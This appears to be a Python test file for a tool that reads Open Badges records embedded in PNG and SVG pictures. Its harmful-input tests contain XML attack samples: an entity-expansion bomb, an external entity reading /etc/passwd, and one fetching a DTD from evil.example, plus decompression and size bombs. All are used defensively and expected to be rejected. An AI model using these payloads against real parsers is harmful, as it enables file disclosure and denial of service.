"""Badges in pictures: found by content, to the byte, and no picture can do harm."""

import json
import zipfile
import zlib
from io import BytesIO

import pytest
from old_badges import AWARD, award, badge_class, chunk, itxt, jws, png, profile, signed_award, svg
from sample_records import FILE, badge, codes, read

from app.records.limits import Limits
from app.records.model import Record, Source
from app.records.reading import read_bytes, read_path

WHOLE = award(badge=badge_class(issuer=profile()))
OLD = json.dumps(WHOLE, indent=1)
NEW = json.dumps(badge(), ensure_ascii=False).replace("Riverside", "Río\\u0020")
SIGNED = jws(signed_award(badge=badge_class())).decode()
OB_SVG = "http://openbadges.org"
OB3 = "https://purl.imsglobal.org/ob/v3p0"


def raws(data):
    return [(found.kind, found.raw.decode()) for found in read(data) if isinstance(found, Record)]


@pytest.mark.parametrize(
    ("data", "kind", "text"),
    [
        (png(itxt(OLD)), "ob2", OLD),
        (png(itxt(OLD, packed=True)), "ob2", OLD),
        (png(itxt(NEW, b"openbadgecredential", packed=True)), "ob3", NEW),
        (png(chunk(b"tEXt", b"openbadges\0" + OLD.encode())), "ob2", OLD),
        (png(chunk(b"zTXt", b"openbadges\0\0" + zlib.compress(OLD.encode()))), "ob2", OLD),
        (png(itxt(f"\n {SIGNED} \n")), "ob2", SIGNED),
        (svg(f'<o:assertion xmlns:o="{OB_SVG}" verify="{AWARD}"><![CDATA[\n{OLD}\n]]></o:assertion>'), "ob2", OLD),
        (svg(f'<o:assertion xmlns:o="http://openbadges.org" verify="{SIGNED}"/>'), "ob2", SIGNED),
        (svg(f'<o:credential xmlns:o="{OB3}"><![CDATA[{NEW}]]></o:credential>'), "ob3", NEW),
        (
            svg(f'<o:credential xmlns:o="https://purl.imsglobal.org/spec/ob/v3p0"><![CDATA[{NEW}]]></o:credential>'),
            "ob3",
            NEW,
        ),
        (
            svg(
                f'<o:credential xmlns:o="{OB3}"><![CDATA[{NEW}]]></o:credential>',
                '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
            ),
            "ob3",
            NEW,
        ),
    ],
)  # fmt: skip
def test_a_baked_record_is_read_to_the_byte(data, kind, text):
    assert raws(data) == [(kind, text)]
    (found,) = read(data)
    assert found.source == Source("made.json", "in the picture")
    (again,) = read_bytes(found.raw, found.source)
    assert again == found


def test_every_record_in_a_picture_is_read():
    data = png(itxt(OLD), itxt(NEW, b"openbadgecredential"))
    found = read(data)
    assert [(one.kind, one.source.member) for one in found] == [
        ("ob2", "in the picture #1"),
        ("ob3", "in the picture #2"),
    ]


def test_pictures_in_archives_and_folders_are_read(tmp_path):
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as made:
        made.writestr("badges/a.png", png(itxt(OLD)))
        made.writestr("b.svg", svg(f'<o:credential xmlns:o="{OB3}"><![CDATA[{NEW}]]></o:credential>'))
    found = read(buffer.getvalue())
    assert [one.source.member for one in found] == ["badges/a.png, in the picture", "b.svg, in the picture"]
    (tmp_path / "no.name").write_bytes(png(itxt(OLD)))
    assert [one.kind for one in read_path(tmp_path)] == ["ob2"]


def test_an_address_in_a_picture_is_a_link_that_nobody_followed():
    (found,) = read(png(chunk(b"tEXt", b"openbadges\0" + AWARD.encode())))
    assert (found.code, found.values["links"]) == ("link_not_followed", (AWARD,))


@pytest.mark.parametrize(
    "data",
    [
        png(),
        png(itxt(OLD, b"Comment")),
        png(itxt(OLD))[:40],
        b"\xff\xd8\xff\xe0\0\x10JFIF",
        b"GIF89a",
        b"RIFF\0\0\0\0WEBPVP8 ",
        svg(""),
        svg(f'<credential verify="{AWARD}"/>'),
        svg('<o:assertion xmlns:o="http://openbadges.org"/>'),
        b"<!-- made by hand -->\n<s:svg xmlns:s='http://www.w3.org/2000/svg'/>",
    ],
)
def test_a_picture_without_a_record_says_so(data):
    assert codes(read(data)) in (["picture_without_record"], ["picture_broken"])


HELD = f'<o:credential xmlns:o="{OB3}" verify=""/>'
BOMB = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (png(itxt(OLD)[:-1] + b"\0"), "picture_broken"),
        (png(itxt(OLD))[:80], "picture_broken"),
        (png(chunk(b"iTXt", b"openbadges\0")), "picture_broken"),
        (png(chunk(b"iTXt", b"openbadges\0\1\0\0\0not packed")), "picture_broken"),
        (png(chunk(b"iTXt", b"openbadges\0\0\0\0\0\xff\xfe")), "picture_broken"),
        (png(chunk(b"zTXt", b"openbadges\0\1" + zlib.compress(b"{}"))), "picture_broken"),
        (png(itxt("{" + " " * 30_000_000 + "}", packed=True)), "picture_bomb"),
        (png(*[itxt(OLD)] * 101), "picture_bomb"),
        (png(*[chunk(b"tIME", b"")] * 50_000), "picture_broken"),
        (svg("&m;", f'<!DOCTYPE svg [<!ENTITY a "lol">{BOMB}]>'), "picture_entities"),
        (svg("&x;", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "picture_entities"),
        (svg("", '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'), "picture_entities"),
        (svg(HELD + "<g/>" * 200_001), "picture_bomb"),
        (svg(HELD + "<g " + " ".join(f"a{n}='>'" for n in range(300_000)) + "/>"), "picture_bomb"),
        (svg(HELD + "<g>"), "picture_broken"),
        (svg(HELD + "&unknown;"), "picture_broken"),
        (svg("").replace(b'"1.0"?', b'"1.0" encoding="klingon"?'), "picture_without_record"),
        (svg(f"{HELD}\xe9").decode().encode("latin-1"), "picture_broken"),
    ],
)
def test_a_picture_that_is_broken_or_harmful_gives_a_reason_in_time(data, code):
    assert codes(read(data)) == [code]


def test_a_picture_may_not_unpack_beyond_what_a_file_may_hold():
    packed = itxt("{" + " " * 5_000 + "}", packed=True)
    assert codes(list(read_bytes(png(packed), FILE, Limits(file_bytes=4_000)))) == ["picture_bomb"]
    assert codes(list(read_bytes(png(*[packed] * 3), FILE, Limits(file_bytes=12_000)))) == ["picture_bomb"]


def test_a_picture_in_the_text_of_a_picture_is_not_opened():
    assert codes(read(png(itxt(svg("").decode())))) == ["format_not_read"]
